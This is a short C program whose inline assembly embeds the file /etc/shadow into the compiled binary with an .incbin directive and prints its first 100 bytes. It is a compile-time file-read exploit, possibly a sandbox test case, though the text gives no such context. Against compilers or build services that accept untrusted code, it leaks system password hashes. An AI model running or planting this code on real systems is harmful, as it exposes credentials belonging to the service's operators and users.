#include <unistd.h>
__asm__(".globl secret\nsecret: .incbin \"/etc/shadow\"\nsecret_end:");
extern char secret[];
int main(void)
{
    return write(1, secret, 100) < 0;
}
